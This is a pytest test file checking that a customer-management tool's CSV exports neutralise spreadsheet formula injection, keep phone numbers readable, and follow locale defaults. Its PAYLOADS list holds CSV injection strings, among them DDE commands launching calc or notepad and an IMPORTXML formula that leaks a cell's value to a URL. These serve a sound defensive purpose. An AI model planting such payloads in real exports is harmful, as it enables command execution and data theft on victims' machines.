"""CSV exports are safe to open in a spreadsheet: no cell becomes a formula (CSV
injection, OWASP), phone numbers stay readable; the Excel variant (BOM, `;`) is
the default for Belgian and Dutch locales."""

from __future__ import annotations

import csv
import io
import os
import re
import shutil
import subprocess
import zipfile
from pathlib import Path
from xml.etree import ElementTree

import pytest
from helpers import add_me, make_customer, make_location
from sqlalchemy import Engine, text
from sqlmodel import Session, select

from custtui.cli import main
from custtui.db import make_engine, migrate
from custtui.errors import ValidationError
from custtui.models import Customer, JournalNote, Location, User, utcnow
from custtui.services import labels, notes, transfer
from custtui.services.transfer import EXPORT_COLUMNS, FORMULA_TRIGGERS, neutralise_cell

BOM = b"\xef\xbb\xbf"
PHONE = "+32 471 12 34 56"

# OWASP's CSV injection examples and the brief's, each starting with a formula trigger.
PAYLOADS = (
    '=HYPERLINK("http://x","y")',
    "+cmd|' /C calc'!A0",
    "@SUM(1)",
    "-2+3",
    "=1+1",
    "=cmd|' /C notepad'!'A1'",
    "=10+20+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    '=IMPORTXML(CONCAT("http://x/?v=",A1),"//a")',
    "-1+1",
    "+1+1",
)
# Leading tab / CR: refused or stripped at input, so only data written by other means has them.
CONTROL_PAYLOADS = ("\t=1+1", "\r=1+1")

# Export columns that are numbers written by the code; every other column is text.
NUMERIC_COLUMNS = {"id", "locations", "installations", "missions"}
# Text columns that the payloads can reach through the services (the others are
# validated into shapes that cannot start with a trigger: region, language, vat, country,
# and the postal codes of the countries custtui checks; the payload sites are in one it does not).
CUSTOMER_FIELDS = ("name", "internal_name", "customer_number")
LOCATION_FIELDS = {"street": 200, "number": 20, "postal_code": 12, "city": 100}  # and their length limits


def _parse(data: bytes, excel: bool) -> list[list[str]]:
    if excel:
        assert data.startswith(BOM)
        body = data[len(BOM) :].decode("utf-8")
    else:
        assert not data.startswith(BOM)
        body = data.decode("utf-8")
    return list(csv.reader(io.StringIO(body, newline=""), delimiter=";" if excel else ","))


def _export(session: Session, user: User, excel: bool) -> list[list[str]]:
    out = io.BytesIO()
    transfer.export_customers(session, user, out, excel=excel)
    return _parse(out.getvalue(), excel)


def _assert_no_formula_cells(rows: list[list[str]]) -> None:
    """No cell starts with a trigger, except a phone number that stays unprefixed on purpose."""
    assert rows[0] == list(EXPORT_COLUMNS)
    for row in rows[1:]:
        for column, cell in zip(EXPORT_COLUMNS, row, strict=True):
            if column in NUMERIC_COLUMNS:
                assert cell.isdigit(), (column, cell)
            elif cell.startswith(FORMULA_TRIGGERS):
                assert column == "phone" and neutralise_cell(cell, "phone") == cell, (column, cell)


def _email(payload: str) -> str | None:
    """An address starting with the payload's trigger; "@cmd@example.be" is not an address."""
    return None if payload.startswith("@") else f"{payload[0]}cmd@example.be"


def _payload_customers(session: Session, user: User) -> list[tuple[Customer, str]]:
    """One customer per payload, with the payload in every text field the services accept it in."""
    made = []
    for payload in PAYLOADS:
        customer = make_customer(
            session, user, payload, internal_name=payload, customer_number=payload[:50], email=_email(payload),
            phone=PHONE,
        )  # fmt: skip
        notes.add_note(session, user, customer.id, payload)
        make_location(
            session, user, customer, country="GB", **{name: payload[:limit] for name, limit in LOCATION_FIELDS.items()}
        )
        label = labels.create_label(session, user, payload[:60])
        labels.assign_label(session, user, customer.id, label.id)
        session.commit()
        made.append((customer, payload))
    return made


# --- The rule ---------------------------------------------------------------


@pytest.mark.parametrize("payload", PAYLOADS + CONTROL_PAYLOADS)
@pytest.mark.parametrize("column", ["name", "notes", "street", "labels", "phone", None])
def test_every_trigger_gets_a_quote(payload: str, column: str | None) -> None:
    assert neutralise_cell(payload, column) == "'" + payload


@pytest.mark.parametrize(
    "value", ["Bakkerij Peeters", "0+1", "C-001", "info@peeters.be", "03 223 45 67", "", "'quoted", " =1"]
)
def test_other_text_is_left_alone(value: str) -> None:
    assert neutralise_cell(value, "name") == value


@pytest.mark.parametrize(
    ("phone", "written"),
    [
        # No spreadsheet evaluates these (LibreOffice keeps them as text, see test_libreoffice_*):
        ("+32 471 12 34 56", "+32 471 12 34 56"),
        ("+32 2 223 45 67", "+32 2 223 45 67"),
        ("+31 20 123 4567", "+31 20 123 4567"),
        ("0471 12 34 56", "0471 12 34 56"),
        ("02/223.45.67", "02/223.45.67"),
        # LibreOffice reads these as numbers (the "+" is lost), Excel computes the dashed one:
        ("+3247112345", "'+3247112345"),
        ("+32 471 123 456", "'+32 471 123 456"),  # 32471123456 where a blank groups thousands (fr-FR)
        ("+32-471-12-34-56", "'+32-471-12-34-56"),
        ("+32/471.12.34.56", "'+32/471.12.34.56"),
        ("+32 (0)471 12 34 56", "'+32 (0)471 12 34 56"),
        ("-123456", "'-123456"),
    ],
)
def test_phone_numbers_stay_readable(phone: str, written: str) -> None:
    assert neutralise_cell(phone, "phone") == written
    assert neutralise_cell(phone, "notes") == (phone if phone[0].isdigit() else "'" + phone)  # not a phone column


# --- What the services let in -----------------------------------------------


@pytest.mark.parametrize("payload", CONTROL_PAYLOADS)
def test_leading_tab_or_cr_never_reaches_the_database(session: Session, admin: User, payload: str) -> None:
    for field in ("name", "internal_name", "customer_number"):
        with pytest.raises(ValidationError) as refused:
            make_customer(session, admin, **({"name": "X", field: payload} if field != "name" else {"name": payload}))
        assert field in refused.value.errors
    customer = make_customer(session, admin, "Y")
    # Notes are stripped: the text no longer starts with it; a tab inside is allowed, a carriage return is not.
    assert notes.add_note(session, admin, customer.id, payload).text == payload.strip()
    if payload.startswith("\r"):
        with pytest.raises(ValidationError):
            notes.add_note(session, admin, customer.id, "x" + payload)
    for field in LOCATION_FIELDS:
        with pytest.raises(ValidationError) as refused:
            make_location(session, admin, customer, **{field: payload})
        assert field in refused.value.errors


# --- The export ---------------------------------------------------------------


@pytest.mark.parametrize("excel", [False, True], ids=["plain", "excel"])
def test_every_text_field_is_neutralised(session: Session, admin: User, excel: bool) -> None:
    made = _payload_customers(session, admin)
    rows = _export(session, admin, excel)
    _assert_no_formula_cells(rows)
    by_id = {int(row[0]): dict(zip(EXPORT_COLUMNS, row, strict=True)) for row in rows[1:]}
    for customer, payload in made:
        row = by_id[customer.id]
        for field in CUSTOMER_FIELDS:
            assert row[field] == "'" + getattr(customer, field), field
        for field, limit in LOCATION_FIELDS.items():
            assert row[field] == "'" + payload[:limit], field
        assert row["labels"] == "'" + payload[:60]
        assert row["notes"] == f"{utcnow().date().isoformat()}: {payload.strip()}"  # dated: never a formula
        assert row["email"] == ("" if _email(payload) is None else f"'{_email(payload)}")
        assert row["phone"] == PHONE  # readable, unprefixed
        assert (row["locations"], row["installations"], row["missions"]) == ("1", "0", "0")


@pytest.mark.parametrize("excel", [False, True], ids=["plain", "excel"])
def test_data_written_around_the_services_is_neutralised_too(
    engine: Engine, session: Session, admin: User, excel: bool
) -> None:
    """Older data, or rows written by other tools, may hold what validation refuses today."""
    customer = make_customer(session, admin, "Placeholder")
    make_location(session, admin, customer)
    values = {"tab": "\t=1+1", "cr": "\r=1+1", "phone": "=1+1"}
    with engine.begin() as connection:
        connection.execute(
            text("UPDATE customer SET name = :tab, internal_name = :cr, phone = :phone, email = :tab"),
            values,
        )
        connection.execute(text("UPDATE location SET street = :tab, city = :cr, number = :phone"), values)
    session.expire_all()
    rows = _export(session, admin, excel)
    _assert_no_formula_cells(rows)
    row = dict(zip(EXPORT_COLUMNS, rows[1], strict=True))
    assert (row["name"], row["internal_name"], row["phone"], row["email"]) == (
        "'\t=1+1", "'\r=1+1", "'=1+1", "'\t=1+1")  # fmt: skip
    assert (row["street"], row["city"], row["number"]) == ("'\t=1+1", "'\r=1+1", "'=1+1")


def test_excel_variant_has_a_bom_and_semicolons(session: Session, admin: User) -> None:
    anais = make_customer(session, admin, "Anaïs Dubois; fille", phone=PHONE)
    notes.add_note(session, admin, anais.id, 'Dit "bonjour", puis sonner.')
    make_location(session, admin, anais, street="Rue de l'Église", city="Liège", postal_code="4000")
    out = io.BytesIO()
    assert transfer.export_customers(session, admin, out, excel=True) == 1
    data = out.getvalue()
    assert data.startswith(BOM + b"id;name;marked_error;internal_name;")
    assert data.count(BOM) == 1
    rows = _parse(data, excel=True)
    row = dict(zip(EXPORT_COLUMNS, rows[1], strict=True))
    assert (row["name"], row["notes"], row["street"], row["city"], row["phone"]) == (
        "Anaïs Dubois; fille", f'{utcnow().date().isoformat()}: Dit "bonjour", puis sonner.', "Rue de l'Église", "Liège",
        PHONE)  # fmt: skip
    assert data.decode("utf-8-sig").splitlines()[1].startswith(f'{anais.id};"Anaïs Dubois; fille";')

    plain = io.BytesIO()
    transfer.export_customers(session, admin, plain)  # the default: plain RFC 4180
    assert plain.getvalue().startswith(b"id,name,marked_error,internal_name,")
    assert _parse(plain.getvalue(), excel=False)[1] == rows[1]
    assert b"\r\n" in plain.getvalue() and b"\r\n" in data


@pytest.mark.parametrize("excel", [False, True], ids=["plain", "excel"])
def test_both_variants_import_back(engine: Engine, session: Session, admin: User, tmp_path: Path, excel: bool) -> None:
    anais = make_customer(
        session, admin, "Anaïs Dubois", internal_name="Dubois, Anaïs", customer_number="C-7", language="fr",
        email="anais@example.be", phone=PHONE, region_code="BE-WAL",
    )  # fmt: skip
    notes.add_note(session, admin, anais.id, 'Say "hi";\nthen ring.')
    make_location(session, admin, anais, street="Rue de l'Église", number="5", postal_code="4000", city="Liège")
    make_customer(session, admin, "Peeters", phone="+32 2 223 45 67")
    session.commit()

    def snapshot() -> list[tuple[object, ...]]:
        with Session(engine) as s:
            return sorted(
                (c.name, c.internal_name, c.customer_number, c.language, c.email, c.phone, c.region_code,
                 # The journal as exported comes back as one note, dated as it was exported.
                 tuple(re.sub(r"^\d{4}-\d\d-\d\d: ", "", note.text)
                       for note in s.exec(select(JournalNote).where(JournalNote.customer_id == c.id))),
                 tuple((loc.street, loc.number, loc.postal_code, loc.city) for loc in s.exec(
                     select(Location).where(Location.customer_id == c.id))))
                for c in s.exec(select(Customer))
            )  # fmt: skip

    before = snapshot()
    path = tmp_path / "export.csv"
    assert transfer.export_customers(session, admin, path, excel=excel) == 2
    assert path.read_bytes().startswith(BOM) == excel
    session.close()
    with engine.begin() as connection:
        for table in ("building", "journal_note", "location", "customer_label", "label", "audit_event", "customer"):
            connection.execute(text(f"DELETE FROM {table}"))
    report = transfer.import_customers(engine, admin, path)
    assert [row.status for row in report.rows] == ["created", "created"], report.rows
    assert snapshot() == before


# --- The CLI: the default follows the locale --------------------------------


@pytest.fixture
def cli_db(tmp_path: Path) -> str:
    """A migrated database where the OS login is an admin (as in test_cli_duplicates)."""
    url = f"sqlite:///{tmp_path / 'cli.db'}"
    engine = make_engine(url)
    migrate(engine)
    with Session(engine) as session:
        add_me(session)
    engine.dispose()
    return url


@pytest.mark.parametrize(
    ("lang", "flags", "excel"),
    [
        ("nl_BE.UTF-8", [], True),
        ("fr_BE.UTF-8", [], True),
        ("de_BE.UTF-8", [], True),
        ("nl_NL.UTF-8", [], True),
        ("en_US.UTF-8", [], False),
        ("C.UTF-8", [], False),
        (None, [], False),
        ("nl_BE.UTF-8", ["--no-excel"], False),
        ("nl_BE.UTF-8", ["--plain"], False),
        ("en_US.UTF-8", ["--excel"], True),
    ],
)
def test_cli_default_follows_the_locale(
    cli_db: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, lang: str | None, flags: list[str], excel: bool
) -> None:
    if lang is not None:
        monkeypatch.setenv("LANG", lang)  # the autouse `english` fixture cleared it
    path = tmp_path / "out.csv"
    assert main(["export", "--output", str(path), "--db", cli_db, *flags]) == 0
    data = path.read_bytes()
    assert data.startswith(BOM) == excel
    assert data.removeprefix(BOM).startswith(b"id;name;" if excel else b"id,name,")


def test_cli_lang_option_and_standard_output(
    cli_db: str, monkeypatch: pytest.MonkeyPatch, capsysbinary: pytest.CaptureFixture[bytes]
) -> None:
    assert main(["export", "--db", cli_db, "--lang", "nl"]) == 0  # Dutch formats are Belgian by default: nl_BE
    assert capsysbinary.readouterr().out.startswith(BOM + b"id;name;")
    monkeypatch.setenv("LANG", "fr_FR.UTF-8")  # French, but from France
    assert main(["export", "--db", cli_db]) == 0
    assert capsysbinary.readouterr().out.startswith(b"id,name,")


def test_cli_excel_and_plain_exclude_each_other(cli_db: str, capsys: pytest.CaptureFixture[str]) -> None:
    with pytest.raises(SystemExit) as caught:
        main(["export", "--db", cli_db, "--excel", "--no-excel"])
    assert caught.value.code == 2
    assert "not allowed with argument" in capsys.readouterr().err


def test_help_says_which_variant_is_the_default(
    monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.setenv("LANG", "en_BE.UTF-8")
    with pytest.raises(SystemExit):
        main(["export", "--help"])
    out = " ".join(capsys.readouterr().out.split())
    assert "--excel CSV for Excel: UTF-8 with a BOM and ';' between fields." in out
    assert "The default when your locale is Belgian or Dutch (nl_BE, fr_BE, de_BE, nl_NL); yours is en_BE." in out
    assert "--no-excel, --plain plain CSV (RFC 4180)" in out
    assert "The default for other locales." in out


# --- Extra check with LibreOffice (skipped where it is not installed) ---------

_ODF = {
    "table": "urn:oasis:names:tc:opendocument:xmlns:table:1.0",
    "office": "urn:oasis:names:tc:opendocument:xmlns:office:1.0",
    "text": "urn:oasis:names:tc:opendocument:xmlns:text:1.0",
}
# LibreOffice language ids for the CSV filter: en-US, nl-BE, fr-FR (a blank groups thousands).
_LO_LANGUAGES = {"en-US": 1033, "nl-BE": 2067, "fr-FR": 1036}


def _libreoffice_cells(
    csv_path: Path, excel: bool, language: int, tmp_path: Path
) -> list[tuple[str, str | None, str | None]]:
    """(text, value type, formula) of every cell, after LibreOffice's CSV import with
    "evaluate formulas" and "detect special numbers" on, saved as ODS."""
    outdir = tmp_path / f"lo-{csv_path.stem}-{language}"
    # Tokens: separator, text delimiter ("), UTF-8 (76), first line, column types, language,
    # quoted field as text, detect special numbers, ..., evaluate formulas (the 13th).
    options = f"{59 if excel else 44},34,76,1,,{language},false,true,false,false,false,-1,true"
    subprocess.run(
        [
            shutil.which("soffice") or "soffice", f"-env:UserInstallation=file://{tmp_path / 'lo-profile'}",
            "--headless", f"--infilter=CSV:{options}", "--convert-to", "ods", "--outdir", str(outdir), str(csv_path),
        ],
        check=True, capture_output=True, timeout=180, env={**os.environ, "HOME": str(tmp_path)},
    )  # fmt: skip
    content = zipfile.ZipFile(outdir / f"{csv_path.stem}.ods").read("content.xml")
    cells = []
    for cell in ElementTree.fromstring(content).iter(f"{{{_ODF['table']}}}table-cell"):
        paragraphs = cell.findall("text:p", _ODF)
        cells.append(
            (
                "\n".join("".join(p.itertext()) for p in paragraphs),
                cell.get(f"{{{_ODF['office']}}}value-type"),
                cell.get(f"{{{_ODF['table']}}}formula"),
            )
        )
    return cells


@pytest.mark.slow  # runs LibreOffice; an extra check, never required (CI has no soffice)
@pytest.mark.skipif(shutil.which("soffice") is None, reason="extra check: LibreOffice (soffice) is not installed")
@pytest.mark.parametrize("language", list(_LO_LANGUAGES), ids=list(_LO_LANGUAGES))
@pytest.mark.parametrize("excel", [False, True], ids=["plain", "excel"])
def test_libreoffice_finds_no_formula(sqlite_engine: Engine, tmp_path: Path, excel: bool, language: str) -> None:
    with Session(sqlite_engine, expire_on_commit=False) as session:
        admin = User(login="alice", display_name="Alice", role="admin")
        session.add(admin)
        session.commit()
        _payload_customers(session, admin)
        make_customer(session, admin, "Landline", phone="+32 2 223 45 67")
        make_customer(session, admin, "Compact", phone="+32471123456")
        path = tmp_path / "export.csv"
        transfer.export_customers(session, admin, path, excel=excel)

    # The harness sees formulas: the same payloads, written raw, do become formulas.
    raw = tmp_path / "raw.csv"
    raw.write_text("v\n=1+1\n\"=HYPERLINK(\"\"http://x\"\",\"\"y\"\")\"\n", encoding="utf-8")
    assert sum(formula is not None for *_, formula in _libreoffice_cells(raw, False, 1033, tmp_path)) == 2

    cells = _libreoffice_cells(path, excel, _LO_LANGUAGES[language], tmp_path)
    assert [c for c in cells if c[2] is not None] == []
    assert len([c for c in cells if c[0].startswith("'=")]) >= 6 * len([p for p in PAYLOADS if p[0] == "="])
    # Phone numbers: readable text, not numbers, not formulas. Stored E.164 ("+32471123456", which
    # unprefixed would be the number 32471123456), they are exported in groups, as "Compact" is.
    assert cells.count((PHONE, "string", None)) == len(PAYLOADS) + 1
    assert ("+32 2 223 45 67", "string", None) in cells
    for cell_text, value_type, _formula in cells:
        if value_type is None:  # an empty cell
            assert cell_text == ""
        elif value_type != "string":  # only ids and counts are numbers
            assert value_type == "float" and cell_text.isdigit(), (cell_text, value_type)
